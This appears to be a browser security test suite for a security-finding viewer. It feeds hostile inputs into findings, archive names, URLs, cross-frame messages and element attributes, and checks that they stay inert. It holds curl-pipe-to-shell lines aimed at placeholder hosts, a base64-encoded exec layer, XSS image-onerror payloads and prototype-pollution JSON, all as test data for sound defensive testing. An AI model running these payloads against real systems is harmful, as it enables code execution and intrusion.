// An attacker writes the finding, the script, the file names, the archive, the address and the messages, and tries to become
// more than text in what the page shows and in what it saves.
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { payloads } from '../hostile/payloads.mjs';
import { foreign } from './foreign.mjs';
import { host } from './hosts.mjs';
import { dist, openTab, paste, start } from './support.mjs';

const folder = mkdtempSync(join(tmpdir(), 'pyverdict-security-'));
cpSync(dist, folder, { recursive: true });
const bare = await host({});
const portal = await host({});
writeFileSync(join(folder, 'embed-origins.json'), JSON.stringify({ origins: [portal.address, 'null'] }));
const { address, inPage, stop } = await start([], folder);
after(async () => {
  await stop();
  await bare.close();
  await portal.close();
  rmSync(folder, { recursive: true });
});

/** @typedef {import('playwright-core').Page} Page */

const all = payloads.join(' \n');
const reversed = [...payloads].reverse().join(' \n');

/**
 * A finding in which every string holds `words`, where the name, the time and the resource still read as what they are,
 * so that commands, relations and links are made of them.
 * @param {string} words
 */
function poisoned(words) {
  const file = { path: `/tmp/${words}`, size: '9', sha256: words, hashedSize: '9', partiallyHashed: true };
  const process = {
    name: words,
    binary: file,
    libraries: [file],
    script: { ...file, contents: `import os\n${words}\nos.system("curl http://192.0.2.1/ | sh")\n` },
    args: ['python3', '-c', words],
    envVariables: [{ name: words, val: words }],
    pid: '7',
    parentPid: words,
    [words]: words,
  };
  return {
    finding: {
      name: `organizations/1/sources/2/locations/${words}/findings/${words.replaceAll('/', '')}`,
      canonicalName: words,
      parent: words,
      parentDisplayName: words,
      category: words,
      state: words,
      severity: words,
      mute: words,
      findingClass: words,
      moduleName: words,
      description: words,
      nextSteps: words,
      externalUri: words,
      eventTime: '2026-01-01T12:00:00Z',
      createTime: words,
      resourceName: `//run.googleapis.com/projects/p${words.replaceAll('/', '')}/locations/l/services/${words.replaceAll('/', '')}`,
      processes: [process, { ...process, pid: words, parentPid: '7' }],
      containers: [{ name: words, uri: words, imageId: words, labels: [{ name: words, value: words }] }],
      kubernetes: {
        pods: [{ ns: words, name: words, containers: [{ name: words, uri: words, imageId: words }] }],
      },
      files: [file],
      connections: [{ destinationIp: words, destinationPort: words, sourceIp: words, protocol: words }],
      indicator: {
        ipAddresses: [words],
        domains: [words],
        uris: [words, `https://a.example.invalid/${words}`],
      },
      mitreAttack: {
        primaryTactic: words,
        primaryTechniques: [words],
        additionalTechniques: [words],
        version: words,
      },
      marks: { name: words, marks: { [words]: words } },
      sourceProperties: { [words]: { [words]: [words, 1, null, { [words]: words }] } },
      access: { principalEmail: words, callerIp: words },
      contacts: { [words]: { contacts: [{ email: words }] } },
      [words]: words,
    },
    resource: {
      name: `//run.googleapis.com/projects/p/locations/l/services/${words.replaceAll('/', '')}`,
      displayName: words,
      type: words,
      projectDisplayName: words,
      folders: [{ resourceFolder: words, resourceFolderDisplayName: words }],
      [words]: words,
    },
    [words]: words,
  };
}

/** @param {Page} page @param {string} where */
async function everyTab(page, where) {
  await page.locator('pv-verdict-card').waitFor();
  for (const tab of await page.locator('[role=tab]').all()) {
    await tab.click();
    for (const summary of await page.locator('summary:visible').all()) await summary.click();
    assert.deepEqual(
      await foreign(page),
      { bad: [], pwned: undefined },
      `${where}, ${await tab.getAttribute('id')}`,
    );
  }
}

/** @param {Page} page @param {string} form */
async function saved(page, form) {
  await page.locator('#save').click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.locator(`#save-${form}`).click(),
  ]);
  const chunks = [];
  for await (const chunk of await download.createReadStream()) chunks.push(chunk);
  return Buffer.concat(chunks).toString('utf8');
}

/** The cells of a CSV text. @param {string} text */
const cells = (text) => [...text.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => cell.replaceAll('""', '"'));

// Both ways round, since what opens a comment may hide what stands behind it.
for (const [locale, words] of Object.entries({ 'en-GB': all, 'pt-PT': reversed })) {
  test(`payloads in every field, every name and the script of a finding stay text: ${locale}`, () =>
    inPage({ locale }, async (page) => {
      await paste(page, JSON.stringify([poisoned(words), poisoned(words)]));
      await everyTab(page, 'finding');
      assert.match(
        await page.evaluate(() => document.documentElement.lang),
        new RegExp(`^${locale.slice(0, 2)}`),
      );
    }));
}

test('what is saved of such a finding is text in every form, and a page that runs nothing', () =>
  inPage({ goto: true, origins: [bare.address] }, async (page) => {
    await paste(page, JSON.stringify([poisoned(all)]));
    await page.locator('pv-verdict-card').waitFor();
    await page.locator('#save').click();
    const forms = await page
      .locator('[id^="save-"]')
      .evaluateAll((items) => items.map(({ id }) => id.slice('save-'.length)));
    await page.keyboard.press('Escape');
    for (const form of ['html', 'json', 'csv']) assert.ok(forms.includes(form), form);
    for (const form of forms.filter((name) => name !== 'print')) {
      const text = await saved(page, form);
      assert.ok(text.length > 100, form);
      if (form === 'csv') {
        for (const cell of cells(text)) assert.doesNotMatch(cell, /^[=+\-@\t\r\n＝＋－＠]/);
      } else if (form === 'html') {
        // As it is, and without the policy that it carries.
        for (const [name, html] of [
          ['/with.html', text],
          ['/without.html', text.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/i, '')],
        ]) {
          bare.put(name, html);
          const file = await page.context().newPage();
          await file.goto(`${bare.address}${name}`);
          await file.waitForTimeout(200);
          assert.equal(await file.evaluate(() => /** @type {any} */ (window).__pwned), undefined, name);
          assert.equal(
            await file
              .locator('script, iframe, img, svg script, object, embed, form, base, link, video, audio')
              .count(),
            0,
            name,
          );
          assert.deepEqual(
            await file.evaluate(() =>
              [...document.querySelectorAll('*')].flatMap(({ attributes }) =>
                [...attributes]
                  .filter(
                    ({ name: attribute, value }) =>
                      /^on|^srcdoc$/i.test(attribute) || /^\s*javascript:/i.test(value),
                  )
                  .map(({ value }) => value),
              ),
            ),
            [],
            name,
          );
          await file.close();
        }
      } else if (!['markdown', 'md'].includes(form)) {
        JSON.parse(text);
      }
    }
  }));

test('payloads in a script, in its layers and in the names of an archive stay text', () =>
  inPage({}, async (page) => {
    const { zipSync, strToU8 } = await import('fflate');
    const inner = `x = ${JSON.stringify(all)}\nimport os\nos.system(x)\n`;
    const script = `import base64, os\n${payloads.map((words, i) => `a${i} = ${JSON.stringify(words)}  # ${words.replace(/[\n\r\0]/g, ' ')}`).join('\n')}
exec(base64.b64decode("${Buffer.from(inner).toString('base64')}"))
os.system("curl http://x.example.invalid/" + a3 + " | sh")
open(a5, "w").write(a6)
`;
    const files = Object.fromEntries(
      payloads.flatMap((words, index) => [
        [`${index}/${words}.py`, strToU8(script)],
        [`${index}/${words}.bin`, new Uint8Array(9)],
      ]),
    );
    await page.locator('#files').setInputFiles({
      name: '<img src=x onerror=window.__pwned=1>.zip',
      mimeType: 'application/zip',
      buffer: Buffer.from(zipSync(Object.fromEntries(Object.entries(files).slice(0, 60)))),
    });
    await page.locator('[role=option]').nth(20).waitFor();
    assert.deepEqual(await foreign(page), { bad: [], pwned: undefined });
    await everyTab(page, 'script of an archive');
    await openTab(page, 'layers');
    assert.deepEqual(await foreign(page), { bad: [], pwned: undefined });
  }));

test('payloads in the address and in the history do nothing', () =>
  inPage({ goto: false }, async (page) => {
    for (const words of payloads.slice(0, 6)) {
      await page.goto(
        `${address}/?q=${encodeURIComponent(words)}&lang=${encodeURIComponent(words)}#${words}`,
      );
      await page.locator('textarea').waitFor();
      await page.evaluate((state) => {
        history.pushState({ pyverdict: state }, '');
        history.pushState({ pyverdict: JSON.parse('{"__proto__":{"polluted":1}}') }, '');
        dispatchEvent(new PopStateEvent('popstate', { state: { pyverdict: state } }));
        history.back();
      }, words);
      assert.deepEqual(await foreign(page), { bad: [], pwned: undefined });
    }
  }));

const pollutions = [
  '{"__proto__":{"polluted":1},"finding":{"category":"a","__proto__":{"polluted":1},"processes":[{"__proto__":{"polluted":1},"script":{"contents":"print(1)","__proto__":{"polluted":1}}}]}}',
  '{"finding":{"category":"a","constructor":{"prototype":{"polluted":1}},"processes":[{"script":{"contents":"print(1)"}}]},"constructor":{"prototype":{"polluted":1}}}',
  '[{"finding":{"category":"a","marks":{"marks":{"__proto__":"polluted","constructor":"x"}},"sourceProperties":{"__proto__":{"polluted":1}},"processes":[{"script":{"contents":"print(1)"}}]}}]',
  '{"finding":{"category":"__proto__","name":"organizations/1/sources/2/findings/__proto__","processes":[{"script":{"contents":"print(1)"}}]},"resource":{"name":"__proto__"}}\n{"finding":{"category":"__proto__","__proto__":{"polluted":1},"processes":[{"script":{"contents":"print(1)"}}]},"resource":{"name":"constructor"}}\n',
  'finding.category,finding.__proto__.polluted,finding.constructor.prototype.polluted,finding.processes\na,1,1,"[{""script"":{""contents"":""print(1)"",""__proto__"":{""polluted"":1}}}]"\n',
  '__proto__["polluted"] = 1\nconstructor = {"prototype": {"polluted": 1}}\n',
];

/** What a realm inherits that it should not. */
const polluted = () => [
  /** @type {any} */ ({}).polluted,
  ...Object.keys(Object.prototype),
  ...Object.keys(Array.prototype),
  ...Object.keys(Function.prototype),
];

test('no finding reaches a prototype, in the page or in its worker', () =>
  inPage({}, async (page) => {
    for (const input of pollutions) {
      await page.locator('body').click({ position: { x: 2, y: 2 } });
      await paste(page, input);
      await page.locator('pv-verdict-card').waitFor();
      for (const tab of await page.locator('[role=tab]').all()) await tab.click();
      assert.deepEqual(await page.evaluate(polluted), [undefined], input);
      for (const worker of page.workers())
        assert.deepEqual(await worker.evaluate(polluted), [undefined], input);
    }
  }));

/** A page around the frame that notes what it hears and says what it is told to. @param {string} frame */
const around = (
  frame,
) => `<!doctype html><title>Portal</title><iframe id="frame" title="PyVerdict"></iframe><script>
  window.heard = [];
  addEventListener('message', ({ data, source }) => { if (source === frame.contentWindow) heard.push(data); });
  frame.src = ${JSON.stringify(`${frame}/embed.html`)};
</script>`;

/** @param {Page} page @param {string} type @param {string | number} [id] @returns {Promise<any>} */
const heard = (page, type, id) =>
  page
    .waitForFunction(
      ([wanted, its]) =>
        /** @type {any} */ (window).heard.find(
          (/** @type {any} */ message) =>
            message.type === wanted && (its === undefined || message.id === its),
        ),
      /** @type {const} */ ([`pyverdict/${type}`, id]),
    )
    .then((found) => found.jsonValue());

test('no message reaches a prototype, and none of a wrong shape is taken', () =>
  inPage({ goto: false, origins: [portal.address] }, async (page) => {
    portal.put('/', around(address));
    await page.goto(portal.address);
    await heard(page, 'hello');
    await page.evaluate(() => {
      const say = (/** @type {any} */ message) =>
        /** @type {any} */ (document.querySelector('#frame')).contentWindow.postMessage(message, '*');
      const cycle = /** @type {any} */ ({ type: 'pyverdict/analyze', protocol: 1, id: 1 });
      cycle.input = cycle;
      for (const message of [
        null,
        undefined,
        1,
        'pyverdict/analyze',
        [],
        new Map([['type', 'pyverdict/analyze']]),
        new Blob(['x']),
        JSON.parse(
          '{"__proto__":{"polluted":1},"type":"pyverdict/configure","protocol":1,"lang":"__proto__"}',
        ),
        cycle,
        { type: 'pyverdict/__proto__', protocol: 1 },
        { type: 'pyverdict/constructor', protocol: 1 },
        { type: '__proto__', protocol: 1 },
        { type: ['pyverdict/analyze'], protocol: 1 },
        { type: 'pyverdict/analyze', protocol: '1', id: 2, input: 'print(1)' },
        { type: 'pyverdict/analyze', protocol: 1, id: {}, input: 'print(1)' },
        { type: 'pyverdict/analyze', protocol: 1, id: 3, input: ['print(1)'] },
        { type: 'pyverdict/analyze', protocol: 1, id: 4, input: 'print(1)', as: '__proto__' },
        { type: 'pyverdict/analyze', protocol: 1, id: 5, input: 'print(1)', name: { toString: 1 } },
        { type: 'pyverdict/configure', protocol: 1, theme: '"><img src=x onerror=parent.__pwned=1>' },
        { type: 'pyverdict/configure', protocol: 1, intake: 'yes' },
        { type: 'pyverdict/hello', protocol: Infinity },
        { type: 'pyverdict/hello', protocol: [1] },
        { type: 'pyverdict/hello', protocol: 1 },
        {
          type: 'pyverdict/analyze',
          protocol: 1,
          id: '__proto__',
          input: '{"__proto__":{"polluted":1},"finding":{"category":"a","__proto__":{"polluted":1}}}',
          name: '<img src=x onerror=parent.__pwned=1>',
        },
      ])
        say(message);
    });
    await heard(page, 'report', '__proto__');
    const codes = await page.evaluate(() =>
      /** @type {any} */ (window).heard
        .filter((/** @type {any} */ { type }) => type !== 'pyverdict/resize')
        .map((/** @type {any} */ { type, error }) => error?.code ?? type),
    );
    assert.deepEqual(codes, [
      'pyverdict/hello',
      'badMessage', // of the language
      'badMessage', // of the cycle
      'badMessage', // __proto__
      'badMessage', // constructor
      'unsupportedProtocol', // "1"
      'badMessage', // of the id
      'badMessage', // of the input
      'badMessage', // of `as`
      'badMessage', // of the name
      'badMessage', // of the theme
      'badMessage', // of `intake`
      'unsupportedProtocol', // Infinity
      'unsupportedProtocol', // [1]
      'pyverdict/hello',
      'pyverdict/report',
    ]);
    const [, frame] = page.frames();
    for (const realm of [page, frame]) {
      assert.deepEqual(await realm.evaluate(polluted), [undefined]);
      assert.equal(await realm.evaluate(() => /** @type {any} */ (window).__pwned), undefined);
    }
  }));

test('a window that is not the parent of a frame is not heard', () =>
  inPage({ goto: false, origins: [portal.address] }, async (page) => {
    portal.put('/', around(address));
    portal.put(
      '/beside',
      `<!doctype html><script>
        const inner = parent.frames[0];
        inner.postMessage({ type: 'pyverdict/hello', protocol: 1 }, '*');
        inner.postMessage({ type: 'pyverdict/analyze', protocol: 1, id: 9, input: 'print(1)' }, '*');
        parent.said = true;
      </script>`,
    );
    await page.goto(portal.address);
    await heard(page, 'hello');
    await page.evaluate(() =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: '/beside' })),
    );
    await page.waitForFunction(() => /** @type {any} */ (window).said);
    // What comes from the parent behind it is answered, and nothing else was.
    await page.evaluate(() =>
      /** @type {any} */ (document.querySelector('#frame')).contentWindow.postMessage(
        { type: 'pyverdict/analyze', protocol: 1, id: 1, input: 7 },
        '*',
      ),
    );
    await heard(page, 'error', 1);
    assert.deepEqual(
      await page.evaluate(() =>
        /** @type {any} */ (window).heard.map((/** @type {any} */ { type, id }) => [type, id]),
      ),
      [
        ['pyverdict/hello', undefined],
        ['pyverdict/error', 1],
      ],
    );
  }));

test('payloads in the attributes and properties of an element do nothing', () =>
  inPage({ goto: false, origins: [] }, async (page) => {
    await page.goto(`${address}/embed.html`);
    await page.locator('pyverdict-analyzer').waitFor();
    for (const words of payloads) {
      await page.evaluate((text) => {
        const element = /** @type {any} */ (document.querySelector('pyverdict-analyzer'));
        for (const name of ['lang', 'theme', 'title', 'no-input', 'input']) element.setAttribute(name, text);
        element.lang = text;
        element.theme = text;
        element.removeAttribute('no-input');
      }, words);
    }
    await page.evaluate((text) => {
      /** @type {any} */ (document.querySelector('pyverdict-analyzer')).input = text;
    }, all);
    await page.locator('pv-verdict-card').waitFor();
    assert.equal(await page.evaluate(() => /** @type {any} */ (window).__pwned), undefined);
    const { bad } = await foreign(page);
    assert.deepEqual(bad, []);
  }));
